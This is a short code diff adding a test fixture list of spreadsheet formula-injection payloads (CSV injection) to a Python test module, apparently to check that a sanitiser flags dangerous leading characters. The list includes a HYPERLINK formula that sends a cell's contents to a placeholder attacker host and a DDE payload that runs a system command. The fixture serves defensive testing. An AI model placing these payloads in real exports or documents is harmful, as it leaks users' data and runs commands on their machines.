@@ -562,3 +562,18 @@ def small_number_package(dest: Path | str) -> tuple[Path, list[SmallCell]]:
                                {"numerator": n, "denominator": d, "value": float(value)}, forbidden))
     write_rows(wres, header, rows)
     return pkg, cells
+
+
+# ---------------------------------------------------------------------------------------------
+# Spreadsheet formulas in text cells (OWASP CSV injection): (payload, the lead the fix names)
+
+
+FORMULA_PAYLOADS: list[tuple[str, str]] = [
+    (f'=HYPERLINK("http://{ATTACKER}/?leak="&A1,"x")', "="),
+    ("=cmd|' /C calc'!A0", "="),
+    ("@SUM(1+1)", "@"),
+    ("+1", "+"),
+    ("-x", "-"),
+    ("\tBoard paper", "tab"),
+    ("\rBoard paper", "carriage return"),
+]
